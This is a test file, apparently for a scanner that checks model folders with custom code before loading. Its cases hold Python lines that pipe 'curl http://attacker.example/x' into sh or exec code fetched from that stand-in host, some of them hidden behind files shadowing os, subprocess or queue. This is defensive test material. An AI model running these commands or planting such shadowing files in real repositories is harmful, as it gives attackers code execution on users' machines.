import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { scan } from '../../../src/index.ts';

const scratch = mkdtempSync(join(tmpdir(), 'loadlock-stand-ins-'));
after(() => rmSync(scratch, { recursive: true, force: true }));

/** The decision on a model whose code stands in a file beside it, and on whatever else lies there. */
async function decisionOn(source: string, others: Readonly<Record<string, string>>): Promise<string> {
  const folder = mkdtempSync(join(scratch, 'model-'));
  const files = {
    ...others,
    'config.json': '{"auto_map": {"AutoModel": "modeling_x.X"}}',
    'modeling_x.py': `${source}\n\n\nclass X:\n    pass\n`,
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return (await scan([folder])).decision;
}

const command = "'curl http://attacker.example/x | sh'";

// Loaders leave the folder off the search path, and have imported these before: the library's own modules are called.
const attacks: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  [`import os\nos.system(${command})`, { 'os.py': '' }],
  [`import os\nos.system(${command})`, { 'os/__init__.py': '' }],
  [`import os\nos.system(${command})`, { 'os.py': 'def system(command):\n    return 0\n' }],
  [`import subprocess\nsubprocess.run(${command}, shell=True)`, { 'subprocess/__init__.py': '' }],
  [
    `from subprocess import run\nrun(${command}, shell=True)`,
    { 'subprocess.py': 'def run(*a, **k):\n    pass\n' },
  ],
  [
    `from subprocess import *\nrun(${command}, shell=True)`,
    { 'subprocess.py': 'def run(*a, **k):\n    pass\n' },
  ],
  [`import subprocess as s\ns.getoutput(${command})`, { 'src/subprocess.py': '' }],
  [
    'import urllib.request\nexec(urllib.request.urlopen("http://attacker.example/x").read())',
    { 'urllib/__init__.py': '', 'urllib/request.py': 'def urlopen(url):\n    return None\n' },
  ],
  // Packages that are installed where the model is loaded.
  ["import sh\nsh.bash('-c', 'curl http://attacker.example/x | sh')", { 'sh/__init__.py': '' }],
  [
    'import requests\nexec(requests.get("http://attacker.example/x").text)',
    { 'requests.py': 'class Answer:\n    text = ""\ndef get(url):\n    return Answer()\n' },
  ],
  // Whoever starts Python in the folder gets the file.
  ['import queue\nqueue.start()', { 'queue.py': `import os\ndef start():\n    os.system(${command})\n` }],
];

for (const [source, others] of attacks)
  test(`denied: ${source.replaceAll('\n', '⏎')} beside ${Object.keys(others).join(', ')}`, async () => {
    assert.equal(await decisionOn(source, others), 'deny');
  });

test('files of a repository that are called like no module of the library are what is imported', async () => {
  const helper = { 'helpers.py': 'def run(*words, **options):\n    return words\n' };
  assert.equal(await decisionOn(`from .helpers import run\nrun(${command}, shell=True)`, helper), 'allow');
  assert.equal(await decisionOn(`from helpers import *\nrun(${command}, shell=True)`, helper), 'allow');
});
